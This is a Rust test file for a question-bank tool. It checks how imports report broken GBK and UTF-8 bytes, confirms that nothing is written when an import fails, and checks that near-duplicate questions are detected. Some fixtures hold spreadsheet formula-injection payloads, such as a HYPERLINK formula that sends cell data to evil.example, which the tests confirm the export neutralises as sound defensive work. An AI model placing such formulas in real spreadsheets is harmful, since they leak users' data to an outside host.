//! `bank import` / `bank export` / `bank check` on what breaks at scale or in Excel: broken bytes
//! named at their row and column, cells Excel would run as formulas, an import that writes its
//! bank in one piece or not at all, and near-duplicates found across a large bank.

use super::*;
use std::fs;

/// Imports `args` into `out`; returns (exit code, stderr).
fn import(args: &[&str], out: &Path) -> (i32, String) {
    let o = examforge()
        .args(["bank", "import"])
        .args(args)
        .arg("-o")
        .arg(out)
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// The files in `dir`, sorted.
fn listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn a_broken_byte_in_a_gbk_csv_is_named_at_its_row_and_column_and_nothing_is_written() {
    let dir = tmp();
    // The trainer's GBK sample, with a stray 0xFF after the fourth character of row 3's stem.
    let sample = fs::read(root().join("tests/fixtures/import/B1b_tiku_wide_gbk.csv")).unwrap();
    let text = encoding_rs::GBK.decode(&sample).0.into_owned();
    let row3 = text.lines().nth(2).unwrap().to_string();
    let at = row3
        .char_indices()
        .nth(4 + "多选题,".chars().count())
        .unwrap()
        .0;
    let broken_row = format!("{}\u{0}{}", &row3[..at], &row3[at..]);
    let broken = text.replacen(&row3, &broken_row, 1);
    let (gbk, _, lossy) = encoding_rs::GBK.encode(&broken);
    assert!(!lossy);
    let bytes: Vec<u8> = gbk.iter().map(|&b| if b == 0 { 0xFF } else { b }).collect();
    let csv = dir.path().join("题库.csv");
    fs::write(&csv, bytes).unwrap();
    let out = dir.path().join("bank.toml");
    let (code, err) = import(&[csv.to_str().unwrap()], &out);
    assert_ne!(code, 0, "{err}");
    assert!(
        err.contains(&format!(
            "{}:3:9: error: 字节 0xFF 不是有效的 GB18030 编码",
            csv.display()
        )),
        "{err}"
    );
    assert!(!err.contains('\u{FFFD}'), "{err}");
    assert_eq!(
        listing(dir.path()),
        ["题库.csv"],
        "nothing written, nothing left"
    );
}

#[test]
fn one_bad_byte_in_a_utf8_csv_is_named_not_read_as_gbk_mojibake() {
    let dir = tmp();
    let mut bytes = "题型,题干,选项A,选项B,正确答案\n单选题,排污单位应当如实申报吗？,是,否,A\n单选题,建设单位应当"
        .as_bytes()
        .to_vec();
    bytes.push(0xB5);
    bytes.extend_from_slice(
        "编制环境影响报告书吗？,是,否,A\n单选题,重点排污单位应当公开信息吗？,是,否,A\n".as_bytes(),
    );
    let csv = dir.path().join("bank.csv");
    fs::write(&csv, &bytes).unwrap();
    let out = dir.path().join("bank.toml");
    let (code, err) = import(&[csv.to_str().unwrap()], &out);
    assert_ne!(code, 0, "{err}");
    assert!(
        err.contains(&format!(
            "{}:3:1: error: 第 2 列不是有效的 UTF-8",
            csv.display()
        )),
        "{err}"
    );
    assert!(!out.exists());
    // The rest of the file was UTF-8 all along: fixed, it imports as written.
    bytes.retain(|&b| b != 0xB5);
    fs::write(&csv, &bytes).unwrap();
    let (code, err) = import(&[csv.to_str().unwrap()], &out);
    assert_eq!(code, 0, "{err}");
    assert!(fs::read_to_string(&out)
        .unwrap()
        .contains("建设单位应当编制环境影响报告书吗？"));
}

const FORMULAS: &str = r#"[bank]
id = "f"
title = "formulas"
language = "zh"

[[question]]
id = "f1"
kind = "single"
stem = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看解析\")"
options = ["-1+1", "@SUM(A1:A9)", "+86 10 1234", "'=already quoted"]
answer = "A"
explanation = "-3"
source = "《中华人民共和国环境保护法》第四十二条"

[[question]]
id = "f2"
kind = "fill"
stem = "排放标准值为____。"
answer = [["=2+3", "-5"]]
source = "《中华人民共和国环境保护法》第十六条"
"#;

#[test]
fn csv_export_keeps_excel_from_running_formulas_and_imports_back_exactly() {
    let dir = tmp();
    let bank = dir.path().join("f.toml");
    fs::write(&bank, FORMULAS).unwrap();
    let csv = dir.path().join("f.csv");
    examforge()
        .args(["bank", "export"])
        .arg(&bank)
        .args(["--to", "csv", "-o"])
        .arg(&csv)
        .assert()
        .success();
    let text = fs::read_to_string(&csv).unwrap();
    // Every cell as Excel reads it: none starts a formula; a number stays a number.
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let mut cells = Vec::new();
    for rec in rdr.records() {
        cells.extend(rec.unwrap().iter().map(str::to_string));
    }
    for c in &cells {
        let risky = c.starts_with(['=', '+', '@', '\t', '\r'])
            || (c.starts_with('-') && c.parse::<f64>().is_err() && c.len() > 1);
        assert!(!risky, "Excel would run {c:?}");
    }
    assert!(
        cells.contains(&"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看解析\")".to_string())
    );
    assert!(cells.contains(&"'-1+1".to_string()));
    assert!(cells.contains(&"''=already quoted".to_string()));
    assert!(cells.contains(&"-3".to_string()));
    // Imported again: the same bank, field for field.
    let back = dir.path().join("back.toml");
    let (code, err) = import(
        &[csv.to_str().unwrap(), "--id", "f", "--title", "formulas"],
        &back,
    );
    assert_eq!(code, 0, "{err}");
    let want: toml::Value = toml::from_str(FORMULAS).unwrap();
    let got: toml::Value = toml::from_str(&fs::read_to_string(&back).unwrap()).unwrap();
    for (w, g) in want["question"]
        .as_array()
        .unwrap()
        .iter()
        .zip(got["question"].as_array().unwrap())
    {
        for key in ["stem", "options", "answer", "explanation"] {
            assert_eq!(w.get(key), g.get(key), "{key}");
        }
    }
}

#[test]
fn xlsx_export_stores_formula_text_as_text() {
    let dir = tmp();
    let bank = dir.path().join("f.toml");
    fs::write(&bank, FORMULAS).unwrap();
    let xlsx = dir.path().join("f.xlsx");
    examforge()
        .args(["bank", "export"])
        .arg(&bank)
        .args(["--to", "xlsx", "-o"])
        .arg(&xlsx)
        .assert()
        .success();
    // A formula cell would be stored as <f>…</f>; text is a string cell.
    let mut zip = std::process::Command::new("unzip");
    let sheet = zip
        .arg("-p")
        .arg(&xlsx)
        .arg("xl/worksheets/sheet1.xml")
        .output()
        .unwrap();
    let sheet = String::from_utf8_lossy(&sheet.stdout);
    assert!(sheet.contains("<c "), "{sheet}");
    assert!(!sheet.contains("<f>"), "{sheet}");
    let back = dir.path().join("back.toml");
    let (code, err) = import(&[xlsx.to_str().unwrap(), "--id", "f"], &back);
    assert_eq!(code, 0, "{err}");
    let got: toml::Value = toml::from_str(&fs::read_to_string(&back).unwrap()).unwrap();
    let want: toml::Value = toml::from_str(FORMULAS).unwrap();
    for key in ["stem", "options", "answer"] {
        assert_eq!(
            got["question"][0].get(key),
            want["question"][0].get(key),
            "{key}"
        );
    }
}

#[test]
fn a_name_that_is_a_formula_reaches_results_and_ranking_as_text() {
    let d = tmp();
    examforge()
        .arg("draw")
        .arg(root().join("tests/fixtures/report/blueprint.toml"))
        .args(["--seed", "5", "-o"])
        .arg(d.path())
        .assert()
        .success();
    let m: serde_json::Value =
        serde_json::from_slice(&fs::read(d.path().join("exam.json")).unwrap()).unwrap();
    let code = m["papers"][0]["code"].as_str().unwrap();
    let n: usize = m["papers"][0]["sections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["items"].as_array().unwrap().len())
        .sum();
    let numbers: String = (1..=n).map(|i| format!(",{i}")).collect();
    let blanks = ",".repeat(n);
    let evil = "=HYPERLINK(\"http://evil.example\",\"成绩\")";
    fs::write(
        d.path().join("scan.csv"),
        format!(
            "candidate,name,team,paper{numbers}\n2601,\"{}\",@团队,{code}{blanks}\n2602,李四,-甲,{code}{blanks}\n",
            evil.replace('"', "\"\"")
        ),
    )
    .unwrap();
    examforge()
        .arg("grade")
        .arg(d.path().join("exam.json"))
        .arg(d.path().join("scan.csv"))
        .arg("-o")
        .arg(d.path().join("res"))
        .assert()
        .code(predicates::ord::le(1));
    examforge()
        .arg("report")
        .arg(d.path().join("res"))
        .args(["--format", "csv", "-o"])
        .arg(d.path().join("rep"))
        .assert()
        .success();
    for file in ["res/results.csv", "rep/ranking.csv"] {
        let text = fs::read_to_string(d.path().join(file)).unwrap();
        assert!(text.contains("'=HYPERLINK("), "{file}: {text}");
        assert!(
            !text.contains("''=HYPERLINK("),
            "{file}: guarded twice: {text}"
        );
        assert!(
            text.contains(",'@团队,") && text.contains(",'-甲,"),
            "{file}: {text}"
        );
    }
}

/// Words the generated stems are made of: who did it.
const UNITS: [&str; 10] = [
    "排污单位",
    "建设单位",
    "运输单位",
    "医疗机构",
    "监测机构",
    "园区管委会",
    "施工单位",
    "物业企业",
    "养殖场",
    "加油站",
];

/// Words the generated stems are made of: what they did.
const ACTS: [&str; 10] = [
    "擅自停运",
    "超标排放",
    "未批先建",
    "逃避监管",
    "篡改数据",
    "私设暗管",
    "未经验收",
    "拒绝检查",
    "未按时申报",
    "伪造记录",
];

/// Words the generated stems are made of: what it was about.
const POLLUTANTS: [&str; 10] = [
    "废水",
    "废气",
    "固体废物",
    "危险废物",
    "噪声",
    "放射性物质",
    "恶臭气体",
    "扬尘",
    "油烟",
    "医疗废物",
];

/// Words the generated stems are made of: when.
const WHEN: [&str; 10] = [
    "一次",
    "两次",
    "多次",
    "连续三日",
    "夜间",
    "节假日",
    "汛期",
    "重污染天气期间",
    "试生产期间",
    "停产整治期间",
];

#[test]
fn a_large_bank_imports_in_one_piece_and_its_near_duplicates_are_found() {
    let dir = tmp();
    let csv = dir.path().join("big.csv");
    let mut text = String::from("编号,题型,题干,选项A,选项B,正确答案,出处\n");
    // Stems made of four words picked by the digits of the row: any two differ in a word or more.
    let words = [UNITS, ACTS, POLLUTANTS, WHEN];
    let stem = |i: usize| {
        let d = [i / 1000 % 10, i / 100 % 10, i / 10 % 10, i % 10];
        format!(
            "{}{}{}{}，依照有关法律的规定，应当如何处理？",
            words[0][d[0]], words[1][d[1]], words[2][d[2]], words[3][d[3]]
        )
    };
    for i in 0..3000 {
        // The last row repeats row 7 with one word changed: a near-duplicate.
        let s = if i == 2999 {
            stem(7).replace("处理", "处置")
        } else {
            stem(i)
        };
        text.push_str(&format!(
            "q{i},单选题,{s},十日,三十日,A,《中华人民共和国环境保护法》第四十五条\n"
        ));
    }
    fs::write(&csv, text).unwrap();
    let out = dir.path().join("big.toml");
    let (code, err) = import(&[csv.to_str().unwrap(), "--id", "big"], &out);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("已写出 3000 道题"), "{err}");
    assert_eq!(
        listing(dir.path()),
        ["big.csv", "big.toml"],
        "no staging file left"
    );
    let o = examforge()
        .args(["bank", "check"])
        .arg(&out)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(err.contains("`q2999` 与 `q7` 几乎相同"), "{err}");
    assert_eq!(err.matches("几乎相同").count(), 1, "{err}");
}

/// Forty questions of `form` ("gift" or "xml"), the 12th with a stray byte 0xB5 after 排污单位
/// in its stem. Returns the file's bytes and the line the broken byte is on.
fn forty_with_a_broken_byte(form: &str) -> (Vec<u8>, usize) {
    let mut text = String::new();
    if form == "xml" {
        text.push_str("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<quiz>\n");
    }
    for i in 1..=40 {
        let stem = format!("排污单位第{i}次应当如实申报吗？");
        if form == "xml" {
            text.push_str(&format!(
                "  <question type=\"truefalse\">\n    <name><text>q{i}</text></name>\n    <questiontext format=\"plain_text\"><text>{stem}</text></questiontext>\n    <answer fraction=\"100\"><text>true</text></answer>\n    <answer fraction=\"0\"><text>false</text></answer>\n  </question>\n"
            ));
        } else {
            text.push_str(&format!("::q{i}::{stem}{{T}}\n\n"));
        }
    }
    if form == "xml" {
        text.push_str("</quiz>\n");
    }
    let at = text.find("排污单位第12次").unwrap() + "排污单位".len();
    let line = text[..at].matches('\n').count() + 1;
    let mut bytes = text.into_bytes();
    bytes.insert(at, 0xB5);
    (bytes, line)
}

#[test]
fn a_broken_byte_in_gift_or_moodle_xml_refuses_its_question_alone_at_its_line_and_column() {
    for (form, col) in [("gift", 12), ("xml", 49)] {
        let dir = tmp();
        let (bytes, line) = forty_with_a_broken_byte(form);
        let src = dir.path().join(format!("quiz.{form}"));
        fs::write(&src, bytes).unwrap();
        let out = dir.path().join("bank.toml");
        let (code, err) = import(&[src.to_str().unwrap(), "--id", "b"], &out);
        assert_eq!(code, 1, "{form}: {err}");
        // The quiz is Chinese: so is what it is told.
        let said = format!(
            "{}:{line}:{col}: error: 字节 0xB5 不是有效的 UTF-8",
            src.display()
        );
        assert!(err.contains(&said), "{form}: {err}");
        assert_eq!(err.matches(": error:").count(), 1, "{form}: {err}");
        assert!(!out.exists(), "{form}");
        // With --skip-bad the other 39 are written, and the refused one is named where it starts.
        let (code, err) = import(&[src.to_str().unwrap(), "--id", "b", "--skip-bad"], &out);
        assert_eq!(code, 3, "{form}: {err}");
        let bank = fs::read_to_string(&out).unwrap();
        assert_eq!(bank.matches("[[question]]").count(), 39, "{form}");
        assert!(
            bank.contains("排污单位第11次") && bank.contains("排污单位第13次"),
            "{form}"
        );
        assert!(
            !bank.contains("第12次") && !bank.contains('\u{FFFD}'),
            "{form}"
        );
        let start = if form == "gift" { line } else { line - 2 };
        assert!(
            err.contains(&format!(
                "跳过了 1 道有错误的题：{}:{start}:",
                src.display()
            )),
            "{form}: {err}"
        );
    }
}

/// A byte invalid in a UTF-8 CSV is named at its line and refuses that row's question alone:
/// with --skip-bad every other row, before and after it, is written, and the run says it did
/// not finish cleanly.
#[test]
fn a_csv_broken_midway_refuses_only_the_broken_row_with_skip_bad() {
    let dir = tmp();
    let mut bytes = String::from("编号,题型,题干,选项A,选项B,正确答案,出处\n");
    for i in 1..=30 {
        bytes.push_str(&format!(
            "q{i},判断题,第{i}条规定的义务应当履行吗？,,,正确,《中华人民共和国环境保护法》第{i}条\n"
        ));
    }
    let mut bytes = bytes.into_bytes();
    let at = bytes
        .windows("q21,".len())
        .position(|w| w == b"q21,")
        .unwrap()
        + "q21,判断题,第".len();
    bytes.insert(at, 0xB5);
    let csv = dir.path().join("bank.csv");
    fs::write(&csv, &bytes).unwrap();
    let out = dir.path().join("bank.toml");
    let (code, err) = import(&[csv.to_str().unwrap()], &out);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains(&format!(
            "{}:22:1: error: 第 3 列不是有效的 UTF-8",
            csv.display()
        )),
        "{err}"
    );
    assert!(!out.exists(), "nothing written without --skip-bad");
    let (code, err) = import(&[csv.to_str().unwrap(), "--skip-bad"], &out);
    assert_ne!(code, 0, "{err}");
    assert!(err.contains("已写出 29 道题"), "{err}");
    let bank = fs::read_to_string(&out).unwrap();
    assert!(bank.contains("id = \"q20\"") && !bank.contains("id = \"q21\""));
    assert!(bank.contains("id = \"q22\"") && bank.contains("id = \"q30\""));
    assert!(!bank.contains('\u{FFFD}'));
}

/// In the multi-row layout (one row per option, 题目序号 tying them), a broken byte in one
/// option row refuses that whole question — never a question short of an option — and the
/// questions after it are read.
#[test]
fn a_broken_option_row_refuses_its_multirow_question_alone() {
    let dir = tmp();
    let head = "题目序号,题目类型,题目内容,整体解析,所属题库,是否正确项,选项内容\n";
    let mut bytes = head.as_bytes().to_vec();
    for q in 1..=3 {
        bytes.extend_from_slice(
            format!("{q},1,第{q}题的题干,,题库,0,甲\n{q},0,,,,1,乙\n{q},0,,,,0,丙\n").as_bytes(),
        );
    }
    // 乙 of question 2 (line 6) gets a byte that is not UTF-8.
    let at = bytes
        .windows("2,0,,,,1,".len())
        .position(|w| w == "2,0,,,,1,".as_bytes())
        .unwrap()
        + "2,0,,,,1,".len();
    bytes.insert(at, 0xB5);
    let csv = dir.path().join("bank.csv");
    fs::write(&csv, &bytes).unwrap();
    let out = dir.path().join("bank.toml");
    let (code, err) = import(&[csv.to_str().unwrap(), "--skip-bad"], &out);
    assert_ne!(code, 0, "{err}");
    assert!(
        err.contains(&format!(
            "{}:6:1: error: 第 7 列不是有效的 UTF-8",
            csv.display()
        )),
        "{err}"
    );
    assert!(err.contains("已写出 2 道题"), "{err}");
    let bank = fs::read_to_string(&out).unwrap();
    assert!(bank.contains("第1题") && bank.contains("第3题"), "{bank}");
    assert!(
        !bank.contains("第2题") && !bank.contains('\u{FFFD}'),
        "{bank}"
    );
}

/// A GBK CSV holding a byte GBK cannot decode cannot be read past it: the error names the byte
/// and says that the rows from there on are not imported.
#[test]
fn a_gbk_csv_that_cannot_be_read_on_says_which_rows_are_not_read() {
    let dir = tmp();
    let mut bytes = Vec::new();
    bytes.extend_from_slice(b"\xcc\xe2\xd0\xcd,\xcc\xe2\xb8\xc9,A,B,\xb4\xf0\xb0\xb8\r\n"); // 题型,题干,A,B,答案
    for i in 1..=6u8 {
        // 单选题,第i题,是,否,A — with row 3 holding 0x81 0x20, which GBK cannot decode.
        bytes.extend_from_slice(b"\xb5\xa5\xd1\xa1\xcc\xe2,");
        if i == 3 {
            bytes.extend_from_slice(b"\x81\x20");
        }
        bytes.extend_from_slice(format!("q{i}").as_bytes());
        bytes.extend_from_slice(b",\xca\xc7,\xb7\xf1,A\r\n");
    }
    let csv = dir.path().join("bank.csv");
    fs::write(&csv, &bytes).unwrap();
    let out = dir.path().join("bank.toml");
    let (code, err) = import(&[csv.to_str().unwrap(), "--skip-bad"], &out);
    assert_ne!(code, 0, "{err}");
    assert!(
        err.contains(&format!(
            "{}:4:5: error: 字节 0x81 不是有效的 GB18030 编码",
            csv.display()
        )),
        "{err}"
    );
    assert!(err.contains("从第 4 行起的各行没有读入"), "{err}");
    assert!(err.contains("已写出 2 道题"), "{err}");
}

/// Two banks of 1,000 questions each, whose stems differ from one another by a word or more,
/// with five near-duplicates planted (an exact repeat across the files, a character changed,
/// the punctuation and spacing changed, Latin letters in another case, a character added) and
/// two rewordings that go too far to be one: exactly the five are found, each against its
/// original, in the order of the banks.
#[test]
fn five_planted_near_duplicates_among_two_thousand_questions_are_found_and_no_other() {
    let dir = tmp();
    let words: [&[&str]; 4] = [&UNITS[..2], &ACTS, &POLLUTANTS, &WHEN];
    let stem = |i: usize| {
        let d = [i / 1000 % 2, i / 100 % 10, i / 10 % 10, i % 10];
        let law = if i == 40 {
            "依照GB 3095的规定"
        } else {
            "依照有关法律的规定"
        };
        format!(
            "{}{}{}{}，{law}，应当如何处理？",
            words[0][d[0]], words[1][d[1]], words[2][d[2]], words[3][d[3]]
        )
    };
    let stems: Vec<String> = (0..2000)
        .map(|i| match i {
            1999 => stem(5),
            1998 => stem(17).replace("处理", "处置"),
            1997 => stem(29).replace('，', "  ").replace('？', " ?"),
            997 => stem(40).replace("GB", "gb"),
            1996 => stem(64).replace('？', "吗？"),
            1995 => stem(81).replace("应当如何处理", "应当怎样处罚"),
            1994 => stem(82).replace("有关法律", "相关法规"),
            _ => stem(i),
        })
        .collect();
    let mut files = Vec::new();
    for (name, range) in [("a", 0..1000), ("b", 1000..2000)] {
        let mut text = format!("[bank]\nid = \"{name}\"\ntitle = \"t\"\nlanguage = \"zh\"\n");
        for i in range {
            text.push_str(&format!(
                "\n[[question]]\nid = \"q{i}\"\nkind = \"judge\"\nstem = \"{}\"\nanswer = true\nsource = \"《中华人民共和国环境保护法》第四十五条\"\n",
                stems[i]
            ));
        }
        let file = dir.path().join(format!("{name}.toml"));
        fs::write(&file, text).unwrap();
        files.push(file);
    }
    let o = examforge()
        .args(["bank", "check"])
        .args(&files)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    let found: Vec<&str> = err
        .lines()
        .filter(|l| l.contains("几乎相同"))
        .map(|l| &l[l.find('`').unwrap()..l.find("，在").unwrap()])
        .collect();
    assert_eq!(
        found,
        [
            "`q1999` 与 `q5` 几乎相同（相似度 100%",
            "`q1998` 与 `q17` 几乎相同（相似度 94%",
            "`q1997` 与 `q29` 几乎相同（相似度 100%",
            "`q997` 与 `q40` 几乎相同（相似度 100%",
            "`q1996` 与 `q64` 几乎相同（相似度 97%",
        ],
        "{err}"
    );
    assert!(
        err.contains(&format!(
            "b.toml:{}:1: warning: `q1999` 与 `q5` 几乎相同（相似度 100%，在 {}:{}:1）",
            4 + 999 * 7 + 2,
            files[0].display(),
            4 + 5 * 7 + 2,
        )),
        "{err}"
    );
}
